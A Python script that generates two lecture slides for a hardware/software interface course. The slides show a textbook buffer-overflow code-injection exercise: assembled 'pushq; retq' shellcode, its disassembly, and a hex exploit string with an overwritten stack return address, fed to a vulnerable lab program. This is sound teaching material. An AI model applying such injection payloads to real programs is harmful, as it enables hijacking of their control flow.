

from dataclasses import dataclass

from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, MSO_AUTO_SIZE, PP_ALIGN
from pptx.oxml import parse_xml
from pptx.oxml.ns import nsdecls, qn
from pptx.util import Inches, Pt

BLACK, NAVY = "000000", "002060"
PANEL, PANEL_EDGE, TERMINAL_GREEN = "262626", "43739E", "00FA00"
# Glow from the middle to the edge: position %, colour, opacity %
GLOW = ((0, "E8EAFF", 100), (85, "E8EAFF", 100), (90, "E8EAFF", 75), (100, "162AFF", 0))
SANS, MONO = "Calibri", "DejaVu Sans Mono"
CODE_SIZE = 16
CODE_CHAR = 0.602 * CODE_SIZE    # width of one code character, points
CODE_LINE = 1.164 * CODE_SIZE    # height of one code line, points
COLUMNS, ROWS = 160, 90          # grid of twelfths of an inch
COURSE = "Programming at the Hardware/Software Interface"
CREDIT = "Slide by Bohn"


def rgb(color):
    return RGBColor.from_string(color)


def grid(*cells):
    return [Inches(round(cell / 12, 2)) for cell in cells]


@dataclass
class Line:
    """A code line: tabs go to character columns, gap is lines left free above."""
    text: str
    stops: tuple = ()
    gap: int = 0


class Deck:
    def __init__(self):
        self.prs = Presentation()
        self.prs.slide_width, self.prs.slide_height = Inches(13.333), Inches(7.5)
        self.slide = None

    # Shared parts
    def new_slide(self, heading, number):
        self.slide = self.prs.slides.add_slide(self.prs.slide_layouts[1])
        if len(self.prs.slides) == 1:
            self.add_frame()
        self.title(heading)
        self.text(COURSE, (53, 83.4, 54, 4.8), 12, NAVY, PP_ALIGN.CENTER, MSO_ANCHOR.MIDDLE)
        self.text(str(number), (113, 83.4, 36, 4.8), 12, NAVY, PP_ALIGN.RIGHT, MSO_ANCHOR.MIDDLE)
        self.credit()

    def add_frame(self):
        """Draw the black edge and the glow, then hand them to the master."""
        edge = self.block(MSO_SHAPE.RECTANGLE, (0, 0, COLUMNS, ROWS), BLACK)
        glow = self.block(MSO_SHAPE.ROUNDED_RECTANGLE, (0, 0, COLUMNS, ROWS), BLACK)
        glow.adjustments[0] = 0.048
        stops = "".join(
            f'<a:gs pos="{pos * 1000}"><a:srgbClr val="{color}">'
            f'<a:alpha val="{opacity * 1000}"/></a:srgbClr></a:gs>'
            for pos, color, opacity in GLOW)
        gradient = parse_xml(
            f'<a:gradFill {nsdecls("a")} rotWithShape="1"><a:gsLst>{stops}</a:gsLst>'
            '<a:path path="shape"><a:fillToRect l="50000" t="50000" r="50000" b="50000"/>'
            '</a:path></a:gradFill>')
        properties = glow.element.spPr
        properties.replace(properties.find(qn("a:solidFill")), gradient)
        master_tree = self.prs.slide_master.shapes.element
        for index, layer in enumerate((edge, glow), start=2):
            master_tree.insert(index, layer.element)

    # Placeholders
    def title(self, heading):
        title = self.slide.shapes.title
        paragraph = self.place(title, (11, 4.8, 138, 17.4), MSO_ANCHOR.MIDDLE)
        paragraph.alignment = PP_ALIGN.LEFT
        paragraph.line_spacing = 0.9
        for index, part in enumerate(heading.split("\n")):
            if index:
                paragraph.add_line_break()
            self.run(paragraph, part, 44)

    def credit(self):
        credit = self.slide.placeholders[1]
        paragraph = self.place(credit, (-29.3, 55.9, 63.4, 4.8), MSO_ANCHOR.TOP)
        credit.rotation = 270
        paragraph.line_spacing, paragraph.space_before = 0.9, Pt(10)
        self.run(paragraph, CREDIT, 12)
        properties = paragraph._p.get_or_add_pPr()
        properties.set("marL", "0")
        properties.set("indent", "0")
        SubElement(properties, qn("a:buNone"))

    # Elements
    def place(self, shape, area, anchor):
        shape.left, shape.top, shape.width, shape.height = grid(*area)
        frame = shape.text_frame
        frame.word_wrap, frame.auto_size = True, MSO_AUTO_SIZE.NONE
        frame.vertical_anchor = anchor
        return frame.paragraphs[0]

    def run(self, paragraph, text, size, color=BLACK, font=SANS):
        run = paragraph.add_run()
        run.text = text
        run.font.size, run.font.name = Pt(size), font
        run.font.color.rgb = rgb(color)

    def text(self, text, area, size, color=BLACK, align=PP_ALIGN.LEFT, anchor=MSO_ANCHOR.TOP):
        box = self.slide.shapes.add_textbox(*grid(*area))
        paragraph = self.place(box, area, anchor)
        paragraph.alignment = align
        self.run(paragraph, text, size, color)

    def block(self, kind, area, fill, edge=None):
        block = self.slide.shapes.add_shape(kind, *grid(*area))
        block.shadow.inherit = False
        block.fill.solid()
        block.fill.fore_color.rgb = rgb(fill)
        if edge:
            block.line.color.rgb, block.line.width = rgb(edge), Pt(1)
        else:
            block.line.fill.background()
        return block

    def code(self, area, *lines):
        panel = self.block(MSO_SHAPE.ROUNDED_RECTANGLE, area, PANEL, PANEL_EDGE)
        paragraph = self.place(panel, area, MSO_ANCHOR.MIDDLE)
        for index, line in enumerate(lines):
            if index:
                paragraph = panel.text_frame.add_paragraph()
            paragraph.alignment = PP_ALIGN.LEFT
            if line.gap:
                paragraph.space_before = Pt(line.gap * CODE_LINE)
            if line.stops:
                tabs = SubElement(paragraph._p.get_or_add_pPr(), qn("a:tabLst"))
                for stop in line.stops:
                    SubElement(tabs, qn("a:tab"), pos=str(Pt(stop * CODE_CHAR)), algn="l")
            self.run(paragraph, line.text, CODE_SIZE, TERMINAL_GREEN, MONO)


def main():
    deck = Deck()

    # Assembling the attack code
    deck.new_slide("Our attack:\nOption 2", 28)
    deck.code((11, 26.6, 41, 11.4), Line("pushq $0x400648"), Line("retq"))
    listing = (7, 13, 33)
    deck.code(
        (11, 41.4, 116.5, 39.7),
        Line("textbook-code/chap11> gcc -c option2.s"),
        Line("textbook-code/chap11> objdump -d option2.o"),
        Line("option2.o:\tfile format elf64-x86-64", (15,), gap=1),
        Line("Disassembly of section .text:", gap=2),
        Line("0000000000000000 <.text>:", gap=1),
        Line("\t0:\t68 48 06 40 00\tpushq $4195912", listing),
        Line("\t5:\tc3\tretq", listing))

    # Running the exploit
    deck.new_slide("Injecting and Executing the Exploit String", 30)
    deck.text("back-again-string.txt", (11, 19.7, 27.4, 4.8), 18)
    deck.code(
        (7.4, 45.4, 141.5, 20.8),
        Line("textbook-code/chap11> ./hex2raw < back-again-string.txt > back-again-string.raw"),
        Line("textbook-code/chap11> ./a.out < back-again-string.raw"),
        Line("Enter a string:"),
        Line("Buffer at 0x7fffffffdff8"),
        Line("hH@"),
        Line("Returned to caller. Booooring."))
    comment = (26,)
    deck.code(
        (7.4, 23.9, 109, 15.6),
        Line("68 48 06 40 00 c3 00 00\t// pushq $0x400648; ret", comment),
        Line("00 00 00 00 00 00 00 00"),
        Line("F8 DF FF FF FF 7F 00 00\t// this return address is on the stack", comment))

    deck.prs.save("out.pptx")


if __name__ == "__main__":
    main()
